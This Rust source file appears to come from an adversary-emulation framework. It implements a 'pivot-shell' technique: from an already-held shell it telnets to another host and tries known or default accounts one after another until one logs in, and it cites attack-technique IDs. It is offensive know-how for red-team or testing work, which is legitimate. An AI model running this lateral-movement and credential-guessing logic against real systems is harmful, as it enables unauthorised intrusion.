//! Opens a shell on another host from the shell it is in: the connection comes from the held host.

use super::craft::accounts::Logins;
use super::craft::contact::Contact;
use super::craft::part;
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::StreamId;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Host, Parameters};
use crate::wire::Ip;
use crate::wire::Message;
use crate::wire::shell::{Command, Output, Shell, TELNET_PORT};

/// Technique `pivot-shell`.
#[derive(Debug)]
pub(super) struct PivotShell;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Host to go on to.
    target: Host,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    contact: Contact,
    logins: Logins,
}
part!(State.contact: Contact);
part!(State.logins: Logins);

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, PivotShell>;

static ENTRY: Entry = Entry {
    id: "pivot-shell",
    title: "Open a shell onward from a held host",
    summary: "From the shell it is in, connects to the telnet port of another host and logs in with known or shipped accounts. The packets \
              are the held host's own.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1021", "T1570", "T0867"],
};

fn run(step: &mut Step<'_, '_, '_>, stream: StreamId, command: Command) {
    step.hands
        .send(stream, Message::Shell(Box::new(Shell::Run(command))));
}

fn telnet(step: &mut Step<'_, '_, '_>, ip: Ip) -> Progress {
    let Some(shell) = &step.knowledge.shell else {
        return step.in_no_shell();
    };
    let stream = shell.stream;
    run(
        step,
        stream,
        Command::Telnet {
            ip,
            port: TELNET_PORT,
        },
    );
    Progress::Reached(1)
}

impl Technique for PivotShell {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["find", "connect", "log in", "in the onward shell"];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = &step.params.target;
        match input {
            Input::Begin if step.knowledge.shell.is_none() => step.in_no_shell(),
            Input::Begin => match step.find(name) {
                Some(ip) => telnet(step, ip),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                telnet(step, *ip)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Socket(SocketEvent::Failed { .. } | SocketEvent::Closed(_)) => {
                step.knowledge.shell = None;
                Progress::Failed("lost the shell")
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                let Message::Shell(shell) = &**message else {
                    return Progress::Wait;
                };
                let Shell::Output(output) = &**shell else {
                    return Progress::Wait;
                };
                match output {
                    Output::Unreachable => Progress::Failed("onward connection failed"),
                    Output::Onward(said) => match **said {
                        Shell::Banner { open: true } | Shell::LoginResult { accepted: true } => {
                            if let Some(shell) = &mut step.knowledge.shell {
                                shell.onward = true;
                            }
                            Progress::Done("onward prompt")
                        }
                        Shell::Banner { open: false } | Shell::LoginResult { accepted: false } => {
                            let Some((user, password)) = step.next_account() else {
                                return Progress::Failed("every login refused");
                            };
                            run(
                                step,
                                *stream,
                                Command::Onward(Box::new(Shell::Login { user, password })),
                            );
                            Progress::Reached(2)
                        }
                        _ => Progress::Wait,
                    },
                    _ => Progress::Wait,
                }
            }
            _ => Progress::Wait,
        }
    }
}
